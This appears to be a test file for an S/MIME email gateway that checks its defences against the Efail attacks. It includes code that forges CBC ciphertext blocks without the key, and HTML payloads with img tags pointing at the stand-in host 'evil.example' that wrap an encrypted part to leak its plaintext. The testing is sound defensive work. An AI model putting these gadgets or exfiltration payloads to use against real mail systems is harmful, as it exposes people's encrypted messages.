/**
 * The attacks of "Efail: Breaking S/MIME and OpenPGP Email Encryption using Exfiltration Channels"
 * (Poddebniak and others, 2018), as far as a gateway can stop them: it opens nothing that stands
 * beside other content, says of CBC that it proves nothing, and lets a signature inside decide.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { decodedCms } from "../../../src/smime/recognise.ts";
import { parseMessage } from "../../../src/mime/message.ts";
import { signerWith } from "../../cms/signed-world.ts";
import { party } from "../../cms/world.ts";
import {
  cmsEntity,
  encrypted,
  envelope,
  layerKinds,
  mail,
  multipart,
  noticesOf,
  opaque,
  opening,
  signedLayers,
  verdicts,
} from "../entities.ts";

const hospital = await party("hospital.example");
const ann = await signerWith("p256");
const removesAll = { removes: () => true };
const secret = "the results are in: positive\r\n";
const entity = `Content-Type: text/plain\r\n\r\n${secret.repeat(8)}`;
const blockSize = 16;

interface CbcParts {
  readonly before: Buffer;
  readonly iv: Buffer;
  readonly between: Buffer;
  readonly ciphertext: Buffer;
}

/** Where initialisation vector and ciphertext of a CBC envelope stand that ends with its content. */
function takenApart(der: Buffer): CbcParts {
  const aes128Cbc = Buffer.from("0609608648016503040102", "hex");
  const ivAt = der.indexOf(aes128Cbc) + aes128Cbc.length + 2;
  assert.ok(ivAt > aes128Cbc.length + 2);
  const contentAt = ivAt + blockSize;
  const lead = der[contentAt + 1] ?? 0;
  const start = contentAt + 2 + (lead > 0x80 ? lead - 0x80 : 0);
  return {
    before: der.subarray(0, ivAt),
    iv: der.subarray(ivAt, contentAt),
    between: der.subarray(contentAt, start),
    ciphertext: der.subarray(start),
  };
}

function xor(...blocks: readonly Buffer[]): Buffer {
  const result = Buffer.alloc(blockSize);
  for (const block of blocks)
    for (let at = 0; at < blockSize; at++) result[at] = (result[at] ?? 0) ^ (block[at] ?? 0);
  return result;
}

/** The first block replaced by one that the attacker chose: no key is needed for it. */
function withFirstBlock(der: Buffer, known: string, wanted: string): Buffer {
  const { before, iv, between, ciphertext } = takenApart(der);
  const gadget = xor(iv, Buffer.from(known), Buffer.from(wanted));
  return Buffer.concat([before, gadget, between, ciphertext]);
}

/** A chosen block after a garbled one in the middle, in the place of two others. */
function withMiddleBlock(der: Buffer, known: string, wanted: string, at: number): Buffer {
  const { before, iv, between, ciphertext } = takenApart(der);
  const changed = Buffer.from(ciphertext);
  xor(iv, Buffer.from(known), Buffer.from(wanted)).copy(changed, at * blockSize);
  ciphertext.copy(changed, (at + 1) * blockSize, 0, blockSize);
  return Buffer.concat([before, iv, between, changed]);
}

const known = "Content-Type: te";

describe("CBC gadgets", () => {
  const der = envelope(entity, hospital, "aes-128-cbc");

  test("show in nothing but that the encryption authenticates nothing", () => {
    const gadget = withFirstBlock(der, known, "Content-Type:ht/");
    const opened = opening(mail(cmsEntity(gadget, "enveloped-data")), [hospital]);
    assert.match(opened.text, /^Content-Type:ht\/xt\/plain\r$/m);
    assert.ok(opened.result.kind === "opened");
    const [layer] = opened.result.layers;
    assert.deepEqual(
      [layer?.kind, layer?.kind === "encrypted" && layer.authenticated],
      ["encrypted", false],
    );
    assert.deepEqual(signedLayers(opened), []);
  });

  test("can't write a header field of the message: what is garbled is no header", () => {
    const gadget = withMiddleBlock(der, known, "\r\nSubject: own\r\n", 4);
    const opened = opening(mail(cmsEntity(gadget, "enveloped-data")), [hospital]);
    assert.match(opened.text, /^Subject: outer\r$/m);
    assert.doesNotMatch(opened.text.split("\r\n\r\n")[0] ?? "", /own/);
  });

  test("break a signature inside, or the message", async () => {
    const signed = await multipart(entity, [ann]);
    const sealed = envelope(signed, hospital, "aes-128-cbc");
    assert.equal(
      verdicts(signedLayers(opening(mail(cmsEntity(sealed, "enveloped-data")), [hospital]))[0]),
      "valid",
    );
    for (let at = 1; at < 40; at += 3) {
      const gadget = withMiddleBlock(sealed, known, "<img src='//evil", at);
      const opened = opening(mail(cmsEntity(gadget, "enveloped-data")), [hospital], removesAll);
      assert.notEqual(verdicts(signedLayers(opened)[0]), "valid", `block ${at}`);
    }
  });

  test("don't open at all where the content is authenticated", () => {
    const sealed = envelope(entity, hospital, "aes-256-gcm");
    for (let at = sealed.length - 1; at > sealed.length - 250; at -= 7) {
      const changed = Buffer.from(sealed);
      changed.writeUInt8(changed.readUInt8(at) ^ 1, at);
      const { result } = opening(mail(cmsEntity(changed, "authEnveloped-data")), [hospital]);
      assert.equal(result.kind, "failed", `octet ${at}`);
    }
  });
});

describe("direct exfiltration", () => {
  const part = (body: string): string => `--x\r\n${body}\r\n`;
  const html = (text: string): string => part(`Content-Type: text/html\r\n\r\n${text}`);
  const envelopePart = part(encrypted(entity, hospital));

  for (const [what, parts] of [
    [
      "between two halves of an HTML element",
      html('<img src="//evil.example/') + envelopePart + html('">'),
    ],
    ["above a footer of a mailing list", envelopePart + html("<p>list</p>")],
    ["alone in a multipart", envelopePart],
  ] as const)
    test(`opens nothing that stands in a multipart: ${what}`, () => {
      const type = 'Content-Type: multipart/mixed; boundary="x"\r\n\r\n';
      const opened = opening(mail(`${type}${parts}--x--\r\n`), [hospital]);
      assert.equal(opened.result.kind, "unprotected");
      assert.deepEqual(noticesOf(opened), ["encrypted-part-inside"]);
    });

  test("opens nothing that stands in a message within the message", () => {
    const forwarded = `Content-Type: message/rfc822\r\n\r\n${mail(encrypted(entity, hospital)).toString()}`;
    const opened = opening(mail(forwarded), [hospital]);
    assert.deepEqual(
      [opened.result.kind, noticesOf(opened)],
      ["unprotected", ["encrypted-part-inside"]],
    );
  });

  test("opens nothing beside what a sender signed, envelope and neighbours together", async () => {
    const mixed =
      'Content-Type: multipart/mixed; boundary="x"\r\n\r\n' +
      `${html('<img src="//evil.example/')}${envelopePart}--x--\r\n`;
    for (const signed of [await opaque(mixed, [ann]), await multipart(mixed, [ann])]) {
      const opened = opening(mail(signed), [hospital]);
      assert.equal(layerKinds(opened), "signed");
      assert.ok(!opened.text.includes(secret));
    }
  });

  test("opens nothing in a multipart that was inside an envelope itself", () => {
    const mixed =
      'Content-Type: multipart/mixed; boundary="x"\r\n\r\n' +
      `${html('<img src="//evil.example/')}${envelopePart}--x--\r\n`;
    const opened = opening(mail(encrypted(mixed, hospital)), [hospital]);
    assert.equal(layerKinds(opened), "encrypted");
    assert.ok(!opened.text.includes(secret));
    assert.deepEqual(noticesOf(opened), ["encrypted-part-inside"]);
  });

  test("takes text after the envelope for nothing: it is neither decrypted nor delivered", () => {
    const sealed = mail(encrypted(entity, hospital)).toString("latin1");
    const [message] = [parseMessage([Buffer.from(sealed, "latin1")])];
    const der = Buffer.concat([...decodedCms(message)]);
    const appended = cmsEntity(
      Buffer.concat([der, Buffer.from("<img src=//evil>")]),
      "authEnveloped-data",
    );
    const opened = opening(mail(appended), [hospital]);
    assert.ok(opened.text.includes(secret));
    assert.ok(!opened.text.includes("evil"));
  });
});
